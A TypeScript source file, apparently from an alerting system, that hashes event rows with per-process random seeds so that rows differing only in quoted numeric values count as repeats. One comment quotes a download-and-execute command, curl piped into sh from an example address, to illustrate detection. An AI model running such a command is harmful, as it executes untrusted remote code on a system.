import { randomBytes } from 'crypto';

// What makes two retained rows the same event when an answer must choose among a subject's
// rows (state/answer-keep.ts): the same query, event and columns, where a value that is all
// digits (a pid, a time, a port, a uid: `"7357"`) counts as any other such value. Digits
// inside text are kept: `curl https://203.0.113.9/i | sh` is not a repeat of the same line to
// another address, which a user flooding with one could otherwise hide the other behind. A
// digest of 53 bits, from two 32-bit FNV-1a-like lanes (different multipliers, each
// finalised) whose starting states are drawn at random for each process: a user who wants
// their real alert taken for a repeat of their own flood cannot make a row that collides
// with it offline, and a million distinct events collide by chance with odds of about 1 in
// 20,000.

const seeds = randomBytes(8);
const SEED_A = seeds.readUInt32LE(0);
const SEED_B = seeds.readUInt32LE(4);
/** what stands for a quoted value of digits */
const DIGITS = 0x30;
const QUOTE = 0x22;
const isDigit = (c: number): boolean => c >= 0x30 && c <= 0x39;

/** lane b's multiplier (lane a's is FNV's prime): the two lanes are different functions of a text */
const LANE_B = 0x5bd1e995;

/** the 53-bit digest of `parts` together, each quoted value of digits alike */
export function eventDigest(...parts: string[]): number {
  let a = SEED_A;
  let b = SEED_B;
  for (const text of parts) {
    for (let i = 0; i < text.length; i++) {
      let u = text.charCodeAt(i);
      if (u === QUOTE && isDigit(text.charCodeAt(i + 1))) {
        let j = i + 1;
        while (isDigit(text.charCodeAt(j))) j++;
        // `"123"`: the quote, one digit for them all, and the closing quote next
        if (text.charCodeAt(j) === QUOTE) {
          a = Math.imul(a ^ QUOTE, 0x01000193);
          b = Math.imul(b ^ QUOTE, LANE_B);
          u = DIGITS;
          i = j - 1;
        }
      }
      a = Math.imul(a ^ u, 0x01000193);
      b = Math.imul(b ^ u, LANE_B);
    }
    // a separator no text holds, so that ("ab", "c") and ("a", "bc") differ
    a = Math.imul(a ^ 0x10000, 0x01000193);
    b = Math.imul(b ^ 0x10000, LANE_B);
  }
  return fmix(a) * 2 ** 21 + (fmix(b) >>> 11);
}

/** MurmurHash3's finaliser: a multiply-and-xor lane's low bits depend on its input's low bits only */
function fmix(h: number): number {
  h ^= h >>> 16;
  h = Math.imul(h, 0x85ebca6b);
  h ^= h >>> 13;
  h = Math.imul(h, 0xc2b2ae35);
  return (h ^ (h >>> 16)) >>> 0;
}
